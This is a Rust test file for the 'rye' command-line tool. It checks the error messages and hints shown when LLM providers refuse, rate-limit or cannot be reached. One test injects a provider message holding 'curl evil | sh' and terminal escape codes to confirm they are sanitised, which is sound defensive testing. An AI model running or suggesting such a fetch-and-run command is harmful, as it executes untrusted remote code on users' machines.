//! What a person is told when a provider cannot be asked, or refuses: what happened, and the command or the variable that mends it.

use serde_json::{Value, json};

use super::providers::{ANTHROPIC, CHAT, KEY, RESPONSES, Wire, run, world};
use super::world::World;
use crate::support::http::{Reply, Server, reply};

/// Runs the program; returns exit code, stdout and stderr.
fn rye(world: &World, args: &[&str], variables: &[(&str, &str)]) -> (i32, String, String) {
    let output = world.rye(args).envs(variables.iter().copied()).output().unwrap();
    let (out, told) = (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    (output.status.code().unwrap(), out, told)
}

fn refusal(status: &str, kind: &str, message: &str) -> Reply {
    let body = json!({"type": "error", "error": {"type": kind, "message": message}});
    reply(status, &["content-type: application/json"], &body.to_string())
}

fn check(world: &World, wire: &Wire, server: &Server, base: &str) -> (i32, String, String) {
    let args = ["provider", "check", wire.provider, "--model", "gpt-6-luna"];
    let args = if wire.provider == ANTHROPIC.provider { &args[..3] } else { &args };
    rye(world, args, &[(wire.key, KEY), (wire.url, &format!("{}{base}", server.url()))])
}

#[test]
fn a_server_that_refuses_did_answer_and_its_status_is_told() {
    let world = world();
    for wire in [ANTHROPIC, RESPONSES, CHAT] {
        for (status, kind) in [
            ("400 Bad Request", "invalid_request_error"),
            ("401 Unauthorized", "authentication_error"),
            ("404 Not Found", "not_found_error"),
            ("422 Unprocessable Entity", "invalid_request_error"),
        ] {
            let server = Server::new(vec![refusal(status, kind, "No such luck.")]);
            let (code, _, told) = check(&world, &wire, &server, wire.base);
            let code_of_status = &status[..3];
            assert_eq!(code, 6, "{told}");
            assert!(
                told.contains(&format!("answered HTTP {code_of_status}: ")) && told.contains("No such luck."),
                "{told}"
            );
            assert!(!told.contains("did not answer"), "{told}");
        }
    }
}

/// A provider's words in a body begin no line, and move no cursor.
#[test]
fn what_a_provider_says_begins_no_line() {
    let world = world();
    let words = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: evil\nwarning: evil";
    for wire in [ANTHROPIC, RESPONSES, CHAT] {
        let server = Server::new(vec![refusal("400 Bad Request", "invalid_request_error", words)]);
        let (_, out, told) = check(&world, &wire, &server, wire.base);
        let server = Server::new(vec![refusal("400 Bad Request", "invalid_request_error", words)]);
        let url = format!("{}{}", server.url(), wire.base);
        let (_, run_out, run_told) = rye(&world, &["thread", "run", "demo/work"], &[(wire.key, KEY), (wire.url, &url)]);
        let shown = [out, told, run_out, run_told].join("\n");
        assert!(shown.contains("evil") && !shown.contains('\r') && !shown.contains('\u{1b}'), "{shown:?}");
        let own = ["hint: run `curl", "error: evil", "warning: evil"];
        assert!(shown.lines().all(|line| own.iter().all(|own| !line.starts_with(own))), "{shown:?}");
    }
}

#[test]
fn a_thread_whose_key_is_refused_names_the_secret_and_the_check() {
    for wire in [ANTHROPIC, RESPONSES] {
        let world = world();
        let server = Server::new(vec![refusal("401 Unauthorized", "authentication_error", "invalid key")]);
        let (code, outcome, told) = run(&world, &server, &wire, &[]);
        let message = outcome["error"]["message"].as_str().unwrap();
        assert_eq!((code, &outcome["error"]["code"]), (6, &json!("provider")), "{told}");
        let advice = format!("correct the secret `{}`, then run `rye provider check {}`", wire.key, wire.provider);
        assert!(message.contains("answered HTTP 401") && message.ends_with(&advice), "{message}");
    }
}

#[test]
fn a_server_that_wants_to_be_left_alone_is_and_it_is_told_for_how_long() {
    let world = world();
    let body = r#"{"error": {"type": "rate_limit_error", "message": "Slow down."}}"#;
    let busy = reply("429 Too Many Requests", &["content-type: application/json", "retry-after: 3600"], body);
    let server = Server::new(vec![busy]);
    let (code, outcome, told) = run(&world, &server, &ANTHROPIC, &[]);
    let message = outcome["error"]["message"].as_str().unwrap();
    assert_eq!((code, server.asked().len()), (6, 1), "{told}");
    assert!(message.contains("Slow down.; the server asks to wait 1 h before the next attempt"), "{message}");
}

/// Anthropic's clients take an address without `/v1`, OpenAI's with it.
#[test]
fn an_address_with_the_other_path_is_told_with_the_right_one() {
    let world = world();
    for (wire, base, right) in [(ANTHROPIC, "/v1", ""), (RESPONSES, "", "/v1"), (CHAT, "", "/v1")] {
        let server = Server::new(vec![reply("404 Not Found", &["content-type: text/html"], "<html>nginx</html>")]);
        let (code, _, told) = check(&world, &wire, &server, base);
        let hint = format!("hint: set `{}` to `{}{right}`: requests go to `{}", wire.url, server.url(), server.url());
        assert!(code == 6 && told.contains(&hint) && !told.contains("--model MODEL"), "{told}");
        let model = ["--provider", wire.provider, "--model", "gpt-6-luna"];
        let wire = Wire { base, ..wire };
        let args = if wire.provider == CHAT.provider { &model[..] } else { &[] };
        let (code, outcome, _) = run(&world, &server, &wire, args);
        let message = outcome["error"]["message"].as_str().unwrap();
        assert!(
            code == 6 && message.contains(&format!("set `{}` to `{}{right}`", wire.url, server.url())),
            "{message}"
        );
    }
    // If the address is right, the model is the missing part.
    let server = Server::new(vec![refusal("404 Not Found", "not_found_error", "model: x")]);
    let (_, _, told) = check(&world, &ANTHROPIC, &server, "");
    assert!(told.contains("--model MODEL") && !told.contains("hint: set"), "{told}");
}

#[test]
fn what_the_libraries_say_is_put_into_words() {
    let world = world();
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().to_string();
    let check = |variables: &[(&str, &str)]| rye(&world, &["provider", "check", ANTHROPIC.provider], variables);
    let (code, _, told) = check(&[(ANTHROPIC.key, KEY), (ANTHROPIC.url, &format!("http://{closed}"))]);
    assert!(code == 6 && told.contains(&format!("cannot connect to `{closed}`: connection refused\n")), "{told}");
    assert!(told.contains(&format!("hint: start the server at `{closed}`, then run `rye provider check")), "{told}");
    // Not TLS, no answer, and no HTTP.
    let plain = Server::new(vec![reply("200 OK", &[], "{}")]);
    let mute = Server::new(vec![vec![]]);
    let (_, _, tls) = check(&[(ANTHROPIC.key, KEY), (ANTHROPIC.url, &plain.url().replace("http", "https"))]);
    let (_, _, cut) = check(&[(ANTHROPIC.key, KEY), (ANTHROPIC.url, &mute.url())]);
    for told in [told, tls, cut] {
        for jargon in
            ["os error", "client error", "hyper", "error sending request", "tcp connect error", "IncompleteMessage"]
        {
            assert!(!told.contains(jargon), "{jargon}: {told}");
        }
    }
}

#[test]
fn an_address_that_is_none_is_said_and_not_passed_over() {
    let world = world();
    for bad in ["nope", "http://models.example.org", "https://ada:geheim@example.org"] {
        let variables = [(ANTHROPIC.key, KEY), (ANTHROPIC.url, bad)];
        let (code, _, told) = rye(&world, &["provider", "check"], &variables);
        assert!(code == 2 && told.contains("`ANTHROPIC_BASE_URL` is not an address for requests"), "{told}");
        assert!(told.contains("hint: set `ANTHROPIC_BASE_URL` to an address that begins with"), "{told}");
        let (_, out, told) = rye(&world, &["provider", "list"], &variables);
        assert!(
            told.contains("hint: set `ANTHROPIC_BASE_URL` to an address") && !told.contains("set `ANTHROPIC_API_KEY`"),
            "{told}"
        );
        let line = out.lines().find(|line| line.starts_with(ANTHROPIC.provider)).unwrap();
        assert!(line.contains("\tinvalid\t-\t"), "{line}");
        assert!(!told.contains("geheim") && !out.contains("geheim"));
    }
    // With one that answers, it is reported too.
    let server = Server::new(vec![(RESPONSES.text)("ok")]);
    let openai = format!("{}/v1", server.url());
    let variables = [(ANTHROPIC.key, KEY), (ANTHROPIC.url, "nope"), (RESPONSES.key, KEY), (RESPONSES.url, &openai)];
    let (code, out, told) = rye(&world, &["provider", "check"], &variables);
    let skipped = format!("warning: `{}` is not asked: `ANTHROPIC_BASE_URL`", ANTHROPIC.provider);
    assert!(code == 0 && out.contains("ok rye/agent/providers/openai_responses") && told.contains(&skipped), "{told}");
    let (_, out, _) = rye(&world, &["provider", "check", "--json"], &variables);
    let checked: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(checked["skipped"][0]["provider"], json!(ANTHROPIC.provider));
}

#[test]
fn a_check_without_any_secret_names_no_flag_of_another_command() {
    let (code, _, told) = rye(&world(), &["provider", "check"], &[]);
    assert!(code == 1 && told.contains("error: no provider is set up (none of these secrets is set: "), "{told}");
    assert!(
        told.contains("run `rye provider check rye/agent/providers/steps`") && !told.contains("--provider"),
        "{told}"
    );
    assert_eq!(rye(&world(), &["provider", "check", "rye/agent/providers/steps"], &[]).0, 0);
}

#[test]
fn a_check_that_cannot_be_made_names_the_command_that_can() {
    let world = world();
    let told = |args: &[&str]| rye(&world, &[&["provider", "check"], args].concat(), &[(ANTHROPIC.key, KEY)]).2;
    let nope = told(&[ANTHROPIC.provider, "--model", "nope"]);
    assert!(
        nope.contains("hint: name a model that has a price there: ") && nope.contains("claude-sonnet-5-5"),
        "{nope}"
    );
    let ollama = told(&["rye/agent/providers/ollama"]);
    assert!(ollama.contains("error: `rye/agent/providers/ollama` has no default model"), "{ollama}");
    assert!(ollama.contains("`rye provider check rye/agent/providers/ollama --model MODEL`"), "{ollama}");
    for name in ["ollama", "rye/agent/providers/olama"] {
        let near = told(&[name]);
        assert!(near.contains(&format!("unknown provider `{name}`")), "{near}");
        assert!(near.contains("run `rye provider check rye/agent/providers/ollama`"), "{near}");
    }
    let unknown = told(&["nosuch"]);
    assert!(
        unknown.contains("unknown provider `nosuch`") && unknown.contains("hint: run `rye provider list`"),
        "{unknown}"
    );
}

#[test]
fn hints_name_the_file_of_the_configuration_and_the_currencies() {
    let world = world();
    let config = world.path("elsewhere");
    let variables = [("XDG_CONFIG_HOME", config.to_str().unwrap())];
    let (code, _, told) = rye(&world, &["provider", "check", ANTHROPIC.provider], &variables);
    assert!(code == 1 && told.contains(&format!("{}/rye/secrets/ANTHROPIC_API_KEY", config.display())), "{told}");

    let path = world.in_project(".ai/directives/demo/work.md");
    let text =
        std::fs::read_to_string(&path).unwrap().replace("spend=\"1.00\"", "spend=\"1.00\" spend_currency=\"GBP\"");
    world.write_at(&path, &text);
    assert!(world.rye(&["sign", "--all", "-q"]).output().unwrap().status.success());
    let (code, _, told) = rye(&world, &["thread", "run", "demo/work"], &[(ANTHROPIC.key, KEY)]);
    let file = world.path("home/.config/rye/config.toml");
    let hint = format!(
        "hint: write to `{}`, below `[limits.rates]`, how many USD one GBP costs: `\"GBP/USD\" = RATE`",
        file.display()
    );
    assert!(code == 2 && told.contains(&hint), "{told}");
}

#[test]
fn a_document_of_ones_own_that_is_not_bound_is_listed_with_the_lines_that_bind_it() {
    let world = world();
    let document = "tool_id: my/server\ntool_type: provider\nversion: \"1.0.0\"\ncategory: my\ndescription: A server\nplugin: openai\n\
                    url: https://llm.example.org/v1\nauth:\n  secret: MY_KEY\npricing:\n  m:\n    input_per_million: 1\n    output_per_million: 1\n";
    world.write_at(&world.path("home/.ai/tools/my/server.yaml"), document);
    let (_, _, told) = rye(&world, &["provider", "list"], &[]);
    assert!(told.contains("hint: mend the document, then run `rye -C ~ sign tool my/server`"), "{told}");
    assert!(world.rye(&["-C", "../home", "sign", "tool", "my/server", "-q"]).output().unwrap().status.success());
    let (_, out, told) = rye(&world, &["provider", "list"], &[("MY_KEY", KEY)]);
    assert!(out.contains("my/server\tuser\tnot bound\tllm.example.org"), "{out}");
    let file = world.path("home/.config/rye/config.toml");
    let hint = format!(
        "hint: if it may, write to `{}`: `[secrets.MY_KEY]` with `hosts = [\"llm.example.org\"]` and `items = [\"my/server\"]`",
        file.display()
    );
    assert!(told.contains(&hint) && !told.contains("set `ANTHROPIC_API_KEY`"), "{told}");
}

#[test]
fn a_hint_fits_what_went_wrong() {
    let world = world();
    let check = |variables: &[(&str, &str)]| rye(&world, &["provider", "check", ANTHROPIC.provider], variables);
    // Names below `.invalid` do not exist.
    let (code, _, told) = check(&[(ANTHROPIC.key, KEY), (ANTHROPIC.url, "https://models.invalid")]);
    assert!(code == 6 && told.contains("hint: see that this machine reaches `models.invalid`"), "{told}");
    assert!(!told.contains("start the server"), "{told}");
    let server = Server::new(vec![refusal("400 Bad Request", "invalid_request_error", "No.")]);
    let (code, _, told) = check(&[(ANTHROPIC.key, KEY), (ANTHROPIC.url, &server.url())]);
    assert!(
        code == 6 && told.contains("hint: look at what the document says") && !told.contains("server runs"),
        "{told}"
    );
}

#[test]
fn a_model_that_declines_did_not_pass_the_check() {
    let world = world();
    let body = json!({"type": "message", "content": [], "stop_reason": "refusal",
        "usage": {"input_tokens": 9, "output_tokens": 1}});
    let server = Server::new(vec![reply("200 OK", &["content-type: application/json"], &body.to_string())]);
    let variables = [(ANTHROPIC.key, KEY), (ANTHROPIC.url, &*server.url())];
    let (code, out, told) = rye(&world, &["provider", "check", ANTHROPIC.provider], &variables);
    assert!(code == 6 && out.starts_with("failed ") && told.contains("the model declined to answer"), "{out}{told}");
}

#[test]
fn a_wrong_address_is_told_before_a_missing_model() {
    let world = world();
    let variables = [(CHAT.key, KEY), (CHAT.url, "nope")];
    let (code, _, told) = rye(&world, &["provider", "check", CHAT.provider], &variables);
    assert!(code == 2 && told.contains("is not an address for requests"), "{told}");
}

#[test]
fn a_model_that_no_provider_has_is_told_with_a_near_one() {
    let world = world();
    let told = |model: &str| {
        let args = ["thread", "run", "demo/work", "--model", model];
        let (code, _, told) = rye(&world, &args, &[(ANTHROPIC.key, KEY)]);
        assert_eq!(code, 1, "{told}");
        told
    };
    assert!(told("claude-sonet-5-5").contains("hint: did you mean `--model claude-sonnet-5-5`?"));
    let far = told("llama3");
    assert!(far.contains("claude-haiku-5-5") && !far.contains("gpt-6-luna"), "what works now: {far}");
    let args = ["provider", "check", ANTHROPIC.provider, "--model", "claude-opus-55"];
    let (_, _, told) = rye(&world, &args, &[(ANTHROPIC.key, KEY)]);
    assert!(told.contains("hint: did you mean `--model claude-opus-5-5`?"), "{told}");
}
